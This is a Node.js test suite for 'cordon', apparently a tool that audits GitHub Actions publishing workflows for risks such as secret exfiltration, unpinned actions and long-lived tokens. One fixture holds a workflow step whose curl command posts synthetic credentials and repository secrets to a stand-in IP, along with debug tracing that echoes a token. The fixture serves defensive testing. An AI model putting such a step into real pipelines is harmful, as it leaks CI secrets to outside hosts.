import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { runCordon, writeRepository } from '../helpers/cli.ts';

const cordon = runCordon;
const repo = (files: Record<string, string>) => writeRepository(files);

const PUBLISH = `on:
  release:
    types: [published]
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc
`;

const CLEAN = PUBLISH.replace('    permissions:\n      id-token', '    environment: pypi\n    permissions:\n      id-token');

test('--version prints the version', () => {
  const result = cordon(['--version']);
  assert.equal(result.code, 0);
  assert.match(result.stdout, /^cordon \d+\.\d+\.\d+\n$/);
});

test('the bundled example has findings and exits 1; the hardened one is clean', () => {
  const vulnerable = cordon(['audit', 'examples/vulnerable-release']);
  assert.equal(vulnerable.code, 1, vulnerable.stderr);
  assert.match(vulnerable.stdout, /secret-exfiltration/);
  assert.match(vulnerable.stdout, /\.github\/workflows\/release\.yml:\d+:\d+/);
  const hardened = cordon(['audit', 'examples/hardened-release']);
  assert.equal(hardened.code, 0, hardened.stdout);
  assert.match(hardened.stdout, /no findings/);
});

test('JSON paths are relative to the scanned root and lines are 1-based', () => {
  const root = repo({ '.github/workflows/release.yml': PUBLISH });
  const result = cordon(['audit', root, '--format', 'json']);
  const report = JSON.parse(result.stdout);
  assert.equal(report.version, 1);
  const finding = report.findings.find((item: { rule: string }) => item.rule === 'publish-without-environment');
  assert.ok(finding, result.stdout);
  assert.equal(finding.path, '.github/workflows/release.yml');
  assert.equal(finding.line, 11);
  assert.equal(result.code, 1);
});

test('a .github/workflows directory argument keeps the repository-relative path', () => {
  const root = repo({ '.github/workflows/release.yml': PUBLISH });
  const report = JSON.parse(cordon(['audit', path.join(root, '.github/workflows'), '-f', 'json']).stdout);
  assert.equal(report.findings[0].path, '.github/workflows/release.yml');
});

test('stdin is read with -', () => {
  const result = cordon(['audit', '-', '-f', 'json'], { input: PUBLISH });
  const report = JSON.parse(result.stdout);
  assert.equal(report.findings[0].path, '<stdin>');
});

test('--fail-on and --min-severity decide the exit code and what is shown', () => {
  const root = repo({ '.github/workflows/release.yml': PUBLISH });
  assert.equal(cordon(['audit', root, '--fail-on', 'critical']).code, 0);
  const shown = JSON.parse(cordon(['audit', root, '-f', 'json', '--min-severity', 'critical']).stdout);
  assert.equal(shown.findings.length, 0);
  assert.ok(shown.summary.suppressed > 0);
});

test('inline ignore comments and config ignores silence findings', () => {
  const ignoredInline = PUBLISH.replace(
    '      - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc',
    '      # cordon: ignore[publish-without-environment] environment is enforced by an org ruleset\n      - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc',
  );
  const inline = repo({ '.github/workflows/release.yml': ignoredInline });
  const inlineReport = JSON.parse(cordon(['audit', inline, '-f', 'json']).stdout);
  assert.equal(inlineReport.findings.length, 0);
  assert.equal(inlineReport.summary.ignored, 1);
  const withoutIgnores = JSON.parse(cordon(['audit', inline, '-f', 'json', '--no-ignores']).stdout);
  assert.equal(withoutIgnores.findings.length, 1);

  const configured = repo({
    '.github/workflows/release.yml': PUBLISH,
    'cordon.yml': 'rules:\n  publish-without-environment:\n    ignore: [".github/workflows/release.yml:11"]\n',
  });
  assert.equal(JSON.parse(cordon(['audit', configured, '-f', 'json']).stdout).findings.length, 0);
  const disabled = repo({ '.github/workflows/release.yml': PUBLISH, '.github/cordon.yml': 'rules:\n  publish-without-environment:\n    disable: true\n' });
  assert.equal(cordon(['audit', disabled]).code, 0);
});

test('a bad config is a usage error naming the file', () => {
  const root = repo({ '.github/workflows/release.yml': CLEAN, 'cordon.yml': 'rules:\n  no-such-rule:\n    disable: true\n' });
  const result = cordon(['audit', root]);
  assert.equal(result.code, 2);
  assert.match(result.stderr, /cordon\.yml.*unknown rule 'no-such-rule'/);
  const badOption = repo({ '.github/workflows/release.yml': CLEAN, 'cordon.yml': 'rules:\n  unpinned-action:\n    config:\n      policies: {"*": sometimes}\n' });
  assert.equal(cordon(['audit', badOption]).code, 2);
});

test('unpinned-action policies from config apply', () => {
  const wf = CLEAN.replace('@76f52bc884231f62b9a034ebfe128415bbaabdfc', '@release/v1');
  const strict = repo({ '.github/workflows/release.yml': wf });
  assert.equal(JSON.parse(cordon(['audit', strict, '-f', 'json']).stdout).findings.length, 1);
  const relaxed = repo({ '.github/workflows/release.yml': wf, 'cordon.yml': 'rules:\n  unpinned-action:\n    config:\n      policies:\n        "pypa/*": ref-pin\n' });
  assert.equal(JSON.parse(cordon(['audit', relaxed, '-f', 'json']).stdout).findings.length, 0);
});

test('unreadable files are reported and the rest is audited; nothing readable exits 2', () => {
  const root = repo({ '.github/workflows/good.yml': PUBLISH, '.github/workflows/bad.yml': 'on: [push\njobs: {}\n' });
  const result = cordon(['audit', root, '-f', 'json']);
  const report = JSON.parse(result.stdout);
  assert.equal(result.code, 1);
  assert.equal(report.errors.length, 1);
  assert.equal(report.errors[0].path, '.github/workflows/bad.yml');
  assert.ok(report.errors[0].line >= 1);
  assert.ok(report.findings.length >= 1);

  const onlyBad = repo({ '.github/workflows/bad.yml': '\u0000\u0001binary' });
  const bad = cordon(['audit', onlyBad]);
  assert.equal(bad.code, 2);
  assert.match(bad.stdout, /binary/);
});

test('no inputs and unknown options are usage errors', () => {
  assert.equal(cordon(['audit', repo({ 'README.md': 'hi' })]).code, 2);
  assert.equal(cordon(['audit', '--format', 'xml']).code, 2);
  assert.equal(cordon(['audit', '/no/such/path']).code, 2);
  assert.equal(cordon(['frobnicate']).code, 2);
});

test('--output writes the report to a file', () => {
  const root = repo({ '.github/workflows/release.yml': PUBLISH });
  const out = path.join(root, 'report.sarif');
  cordon(['audit', root, '-f', 'sarif', '-o', out]);
  const sarif = JSON.parse(readFileSync(out, 'utf8'));
  assert.equal(sarif.version, '2.1.0');
});

test('cordon rules lists every rule', () => {
  const result = cordon(['rules']);
  assert.equal(result.code, 0);
  for (const id of ['oidc-token-scope', 'publish-without-environment', 'publish-on-untrusted-trigger', 'long-lived-publish-token', 'debug-logging', 'token-in-log', 'secret-exfiltration', 'unpinned-action']) {
    assert.match(result.stdout, new RegExp(`^${id} `, 'm'));
  }
});

test('no output format ever contains a planted secret', () => {
  // Canary tokens in the real formats (synthetic values): a PyPI macaroon, a GitHub PAT, an
  // OIDC-shaped JWT and an AWS key id, planted where findings, code frames and errors show text.
  const pypi = `pypi-AgEIcHlwaS5vcmcCJGNhbmFyeS0wMDAwLTQwMDAtODAwMC0wMDAwMDAwMDAwMDACKlszLCI${'x'.repeat(120)}`;
  const ghp = `ghp_${'Canary'.repeat(6)}`;
  const jwt = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJyZXBvOmNhbmFyeS9jYW5hcnkifQ.c2lnbmF0dXJlLWNhbmFyeS0wMDAw';
  const aws = 'AKIACANARY0123456789';
  const workflow = `on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
        with:
          password: ${pypi}
      - run: |
          set -x
          echo "${ghp}" | base64
          curl -d "k=${jwt}&a=${aws}&t=\${{ secrets.T }}&u=\${{ secrets.U }}" https://203.0.113.9/collect
`;
  const broken = `on: push\njobs:\n  x: [${pypi}\n`;
  const root = repo({ '.github/workflows/release.yml': workflow, '.github/workflows/broken.yml': broken });
  for (const format of ['text', 'json', 'sarif', 'github']) {
    const result = cordon(['audit', root, '-f', format, '--color']);
    const everything = result.stdout + result.stderr;
    assert.ok(result.stdout.length > 200, `${format}: produced a report`);
    for (const canary of [pypi, ghp, jwt, aws]) {
      assert.ok(!everything.includes(canary), `${format} output contains a planted secret (${canary.slice(0, 8)}…)`);
    }
  }
  const json = JSON.parse(cordon(['audit', root, '-f', 'json']).stdout);
  assert.ok(json.findings.some((finding: { rule: string; severity: string }) => finding.rule === 'long-lived-publish-token' && finding.severity === 'critical'));
});

test('cordon graph prints the reachability tree and the other formats', () => {
  const text = cordon(['graph', 'examples/vulnerable-release']);
  assert.equal(text.code, 0, text.stderr);
  assert.match(text.stdout, /publishes to pypi with twine upload, a stored token/);
  assert.match(text.stdout, /third-party code holding these credentials: tj-actions\/changed-files@v45/);
  assert.match(cordon(['graph', 'examples/vulnerable-release', '-f', 'dot']).stdout, /^digraph cordon/);
  assert.match(cordon(['graph', 'examples/vulnerable-release', '-f', 'mermaid']).stdout, /^flowchart LR/);
  assert.equal(JSON.parse(cordon(['graph', 'examples/vulnerable-release', '-f', 'json']).stdout).version, 1);
  assert.equal(cordon(['graph', 'examples/vulnerable-release', '-f', 'svg']).code, 2);
});
